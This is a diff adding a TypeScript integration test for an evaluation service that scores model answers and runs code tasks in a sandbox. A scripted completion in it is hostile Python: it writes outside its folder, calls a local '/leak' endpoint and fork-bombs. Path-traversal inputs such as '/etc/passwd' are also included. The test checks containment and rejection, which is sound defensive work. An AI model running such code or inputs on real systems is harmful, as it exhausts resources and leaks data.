@@ -1,0 +1,124 @@
+import { existsSync } from 'node:fs';
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { randomBytes } from 'node:crypto';
+import { sandboxAvailable } from '../../src/evaluation/code-sandbox';
+import { errorCode } from '../support/catalog-fixtures';
+import { importVerified, OPERATION_FIELDS, waitForOperation } from '../support/onboarding-fixtures';
+import { type ScriptedOpenAiServer, startScriptedOpenAiServer } from '../support/scripted-openai-server';
+import { startTestApp, type TestApp } from '../support/test-app';
+
+const RUN = `mutation($input: RunEvaluationInput!) { runEvaluation(input: $input) { ${OPERATION_FIELDS} } }`;
+const EVALS = `query($m: ID!) { model(id: $m) { evaluations { benchmark score provenance suite metric n stderr datasetVersion runner runnerVersion details } } }`;
+const jsonl = (rows: object[]) => rows.map((r) => JSON.stringify(r)).join('\n') + '\n';
+const marker = path.join(os.tmpdir(), `hostile-${randomBytes(4).toString('hex')}`);
+
+// Known answers: the scripted endpoint answers three of four questions right, one exact-match item wrong.
+const MC = [
+  { question: 'Q1: 2+2?', choices: ['3', '4', '5', '6'], answer: 'B', subject: 'math' },
+  { question: 'Q2: 3*3?', choices: ['9', '6', '3', '1'], answer: 0, subject: 'math' },
+  { question: 'Q3: capital of Italy?', choices: ['Paris', 'Rome', 'Oslo'], answer: 'B', subject: 'geography' },
+  { question: 'Q4: capital of Spain?', choices: ['Madrid', 'Rome', 'Oslo'], answer: 'A', subject: 'geography' },
+];
+const EXACT = [
+  { prompt: 'E1: capital of France?', answer: 'Paris' },
+  { prompt: 'E2: capital of Norway?', answer: 'Oslo' },
+];
+const CODE = [
+  { prompt: 'def add(a, b):\n', test: 'def check(f):\n    assert f(2, 3) == 5\n', entry_point: 'add' },
+  { prompt: 'def evil(a, b):\n', test: 'def check(f):\n    assert f(2, 3) == 5\n', entry_point: 'evil' },
+];
+
+function answer(server: () => string) {
+  return (prompt: string): string => {
+    if (prompt.includes('Q1')) return 'The answer is B.';
+    if (prompt.includes('Q2')) return 'A';
+    if (prompt.includes('Q3')) return '(B) Rome';
+    if (prompt.includes('Q4')) return 'C';
+    if (prompt.includes('E1')) return 'paris.';
+    if (prompt.includes('E2')) return 'Bergen';
+    if (prompt.includes('def add')) return '```python\n    return a + b\n```';
+    // A hostile completion: writes outside its folder, calls home, then forks without end; and is wrong.
+    return [
+      '    import os, urllib.request',
+      `    try: open(${JSON.stringify(marker)}, "w").write("x")`,
+      '    except OSError: pass',
+      `    try: urllib.request.urlopen(${JSON.stringify(server() + '/leak')}, timeout=1)`,
+      '    except Exception: pass',
+      '    while True:',
+      '        try: os.fork()',
+      '        except OSError: pass',
+    ].join('\n') + '\n';
+  };
+}
+
+describe('runEvaluation through GraphQL and Temporal', () => {
+  let t: TestApp;
+  let server: ScriptedOpenAiServer;
+  let datasets: string;
+  let ids: { modelId: string; versionId: string };
+
+  beforeAll(async () => {
+    datasets = await mkdtemp(path.join(os.tmpdir(), 'modelhub-datasets-'));
+    await mkdir(path.join(datasets, 'fixtures'));
+    await writeFile(path.join(datasets, 'fixtures/mc.jsonl'), jsonl(MC));
+    await writeFile(path.join(datasets, 'fixtures/exact.jsonl'), jsonl(EXACT));
+    await writeFile(path.join(datasets, 'fixtures/code.jsonl'), jsonl(CODE));
+    t = await startTestApp({ worker: true, env: { EVAL_DATASETS_DIR: datasets } });
+    server = await startScriptedOpenAiServer({ firstTokenDelayMs: 5, interTokenDelayMs: 0, outputTokens: 1, answer: answer(() => server.url) });
+    ids = await importVerified(t);
+  });
+  afterAll(async () => {
+    await server?.close();
+    await t?.stop();
+    await rm(datasets, { recursive: true, force: true });
+  });
+
+  const target = () => ({ url: server.url, model: 'tiny' });
+
+  it('scores multiple-choice and exact-match tasks against known answers, as MEASURED evaluations', async () => {
+    const res = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 'fixtures', tasks: [
+      { name: 'mc-fixture', kind: 'MULTIPLE_CHOICE', dataset: 'fixtures/mc.jsonl' },
+      { name: 'exact-fixture', kind: 'EXACT_MATCH', dataset: 'fixtures/exact.jsonl' },
+    ] } } });
+    expect(res.errors).toBeUndefined();
+    expect(res.data!.runEvaluation).toMatchObject({ kind: 'EVALUATION' });
+    expect(await waitForOperation(t, res.data!.runEvaluation.id)).toMatchObject({ status: 'SUCCEEDED', progress: 1 });
+    const evals = (await t.gql(EVALS, { m: ids.modelId })).data!.model.evaluations;
+    const mc = evals.find((e: { benchmark: string }) => e.benchmark === 'mc-fixture');
+    expect(mc).toMatchObject({ score: 0.75, n: 4, provenance: 'MEASURED', suite: 'fixtures', metric: 'accuracy', runner: 'modelhub-builtin', runnerVersion: '1' });
+    expect(mc.stderr).toBeCloseTo(Math.sqrt((0.75 * 0.25) / 3), 6);
+    expect(mc.datasetVersion).toMatch(/^[0-9a-f]{16}$/);
+    expect(mc.details.subjects).toEqual({ math: { accuracy: 1, n: 2 }, geography: { accuracy: 0.5, n: 2 } });
+    expect(evals.find((e: { benchmark: string }) => e.benchmark === 'exact-fixture')).toMatchObject({ score: 0.5, n: 2, metric: 'exact_match' });
+  });
+
+  (sandboxAvailable() ? it : it.skip)('runs code tasks in the sandbox: the right one passes, the hostile one is contained', async () => {
+    const before = server.requests;
+    const res = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 'code', tasks: [{ name: 'humaneval-fixture', kind: 'CODE', dataset: 'fixtures/code.jsonl' }] } } });
+    expect(res.errors).toBeUndefined();
+    expect(await waitForOperation(t, res.data!.runEvaluation.id)).toMatchObject({ status: 'SUCCEEDED' });
+    const evals = (await t.gql(EVALS, { m: ids.modelId })).data!.model.evaluations;
+    expect(evals.find((e: { benchmark: string }) => e.benchmark === 'humaneval-fixture')).toMatchObject({ score: 0.5, n: 2, metric: 'pass@1' });
+    expect(existsSync(marker)).toBe(false);
+    expect(server.requests - before).toBe(2); // the two completions; the hostile code's call home never arrived
+  });
+
+  it('refuses datasets outside the datasets folder and unknown kinds, writing nothing', async () => {
+    const bad = (tasks: object[]) => t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 's', tasks } } });
+    expect(errorCode(await bad([{ name: 'x', kind: 'EXACT_MATCH', dataset: '../etc/passwd.jsonl' }]))).toBe('BAD_USER_INPUT');
+    expect(errorCode(await bad([{ name: 'x', kind: 'EXACT_MATCH', dataset: '/etc/passwd' }]))).toBe('BAD_USER_INPUT');
+    expect(errorCode(await bad([]))).toBe('BAD_USER_INPUT');
+    expect(errorCode(await bad([{ name: 'x', kind: 'NOPE', dataset: 'a.jsonl' }]))).toBe('BAD_USER_INPUT');
+  });
+
+  it('fails the run when a dataset is missing', async () => {
+    const res = await t.gql(RUN, { input: { versionId: ids.versionId, target: target(), suite: { name: 's', tasks: [{ name: 'missing', kind: 'EXACT_MATCH', dataset: 'fixtures/none.jsonl' }] } } });
+    const started = Date.now();
+    const done = await waitForOperation(t, res.data!.runEvaluation.id);
+    expect(done).toMatchObject({ status: 'FAILED', errorCode: 'BAD_USER_INPUT' });
+    expect(done.errorMessage).toMatch(/fixtures\/none.jsonl: no such dataset/);
+    expect(Date.now() - started).toBeLessThan(4000); // a verdict, not retried
+  });
+});
